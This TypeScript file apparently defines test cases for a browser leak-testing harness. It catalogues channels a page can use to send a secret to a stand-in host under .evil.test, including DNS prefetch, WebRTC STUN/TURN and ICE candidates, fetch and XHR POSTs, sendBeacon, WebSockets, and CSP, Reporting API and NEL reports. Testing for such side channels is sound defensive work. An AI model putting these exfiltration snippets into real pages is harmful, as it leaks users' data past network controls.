/** Ways that name lookups, WebRTC, transports of their own, scripts that send, and reports are. */
import { answer, element, page, type Way } from "./way.ts";

const PEERS = `
  const a = new RTCPeerConnection(); const b = new RTCPeerConnection();
  a.createDataChannel(secret);
  await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription);
  const candidate = (where, port = 40000) => a.addIceCandidate({
    candidate: "candidate:1 1 udp 2122260223 " + where + " " + port + " typ host", sdpMid: "0", sdpMLineIndex: 0 });`;

const gather = (server: string, more = "") => `
  const pc = new RTCPeerConnection({ iceServers: [{ urls: ${server}${more} }] });
  pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer());`;

const TURN_LOGIN = ', username: secret, credential: "x"';

const names: readonly Way[] = [
  element("dns-prefetch", "link rel=dns-prefetch", '<link rel=dns-prefetch href="//{hex}.{host}">'),
  element("preconnect", "link rel=preconnect", '<link rel=preconnect href="https://{host}">'),
  answer("link-header", "Link header: preconnect", (host) => ({ Link: `<https://${host}>; rel=preconnect` })),
  answer("link-header-preload", "Link header: preload", (host) => ({
    Link: `<https://${host}/p.css>; rel=preload; as=style`,
  })),
  page(
    "local-name",
    "name under .local",
    'fetch("https://" + host.replace(".evil.test", ".local") + "/", { mode: "no-cors" })',
  ),
];

const webrtc: readonly Way[] = [
  page("stun-name", "WebRTC: STUN server by name", gather('"stun:" + host')),
  page("stun-address", "WebRTC: STUN server by address", gather('"stun:" + address')),
  page("turn-udp", "WebRTC: TURN over UDP", gather('"turn:" + address', TURN_LOGIN)),
  page("turn-tcp", "WebRTC: TURN over TCP", gather('"turn:" + address + "?transport=tcp"', TURN_LOGIN)),
  page("turns", "WebRTC: TURN over TLS", gather('"turns:" + host', TURN_LOGIN)),
  page("ice-unicast-name", "WebRTC: name of a candidate, unicast", `${PEERS} await candidate(hex + "." + host);`),
  page(
    "ice-multicast-name",
    "WebRTC: name of a candidate, multicast",
    `${PEERS} await candidate(host.replace(".evil.test", "-" + hex + ".local"));`,
  ),
  page("ice-address", "WebRTC: address of a candidate", `${PEERS} await candidate(address);`),
  {
    ...page(
      "ice-announcement",
      "WebRTC: multicast announcement of the machine's own name",
      gather('"stun:127.0.0.1:9"'),
    ),
    packet: "multicast-dns",
  },
];

const transports: readonly Way[] = [
  page("quic", "QUIC", 'fetch(url, { mode: "no-cors" })'),
  page("webtransport", "WebTransport", 'new WebTransport("https://" + host + "/" + hex)'),
  page("websocket", "WebSocket", 'new WebSocket(url.replace("https:", "wss:"), hex)'),
  page("websocket-address", "WebSocket to an address", 'new WebSocket("wss://" + address + "/?" + hex)'),
  page("eventsource", "EventSource", "new EventSource(url)"),
  page("fetch", "fetch", 'fetch(url, { mode: "no-cors" })'),
  page("fetch-post", "fetch, POST", 'fetch(url, { mode: "no-cors", method: "POST", body: secret })'),
  page("fetch-address", "fetch of an address", 'fetch("https://" + address + "/?" + hex, { mode: "no-cors" })'),
  page("fetch-port", "fetch of another port", 'fetch("https://" + host + ":8443/?" + hex, { mode: "no-cors" })'),
  page(
    "fetch-keepalive",
    "fetch keepalive",
    'fetch(url, { mode: "no-cors", method: "POST", body: secret, keepalive: true })',
  ),
  page("xhr", "XMLHttpRequest", 'const x = new XMLHttpRequest(); x.open("POST", url); x.send(secret)'),
  page("beacon", "navigator.sendBeacon", "navigator.sendBeacon(url, secret)"),
  page(
    "fetch-redirect",
    "redirect of a fetch (302)",
    'fetch("/to/302?" + encodeURIComponent(url), { mode: "no-cors" })',
  ),
  page(
    "fetch-post-redirect",
    "redirect of a POST (307)",
    'fetch("/to/307?" + encodeURIComponent(url), { mode: "no-cors", method: "POST", body: secret })',
  ),
  page("ping", "a ping", 'const a = add(`<a ping="{url}" href="#ping">x</a>`); a.click()'),
];

const reports: readonly Way[] = [
  answer("csp-report-uri", "CSP report-uri", (host) => ({
    "Content-Security-Policy-Report-Only": `connect-src 'none'; report-uri https://${host}/r`,
  })),
  answer("csp-report-to", "CSP report-to, Report-To header", (host) => ({
    "Content-Security-Policy-Report-Only": "style-src 'none'; report-to csp",
    "Report-To": JSON.stringify({ group: "csp", max_age: 1000, endpoints: [{ url: `https://${host}/r` }] }),
  })),
  answer(
    "reporting-api",
    "Reporting API: deprecation reports, Reporting-Endpoints header",
    (host) => ({ "Reporting-Endpoints": `default="https://${host}/r"` }),
    "new XMLHttpRequest().open('GET', '/', false)",
  ),
  answer(
    "nel",
    "Network Error Logging",
    (host) => ({
      "Report-To": JSON.stringify({ group: "nel", max_age: 1000, endpoints: [{ url: `https://${host}/r` }] }),
      NEL: JSON.stringify({ report_to: "nel", max_age: 1000, success_fraction: 1, failure_fraction: 1 }),
    }),
    "fetch('/nel')",
  ),
  answer("alt-svc", "Alt-Svc to another host", (host) => ({ "Alt-Svc": `h3="${host}:443"; ma=1000` }), "fetch('/alt')"),
];

export const NETWORK_WAYS: readonly Way[] = [...names, ...webrtc, ...transports, ...reports];
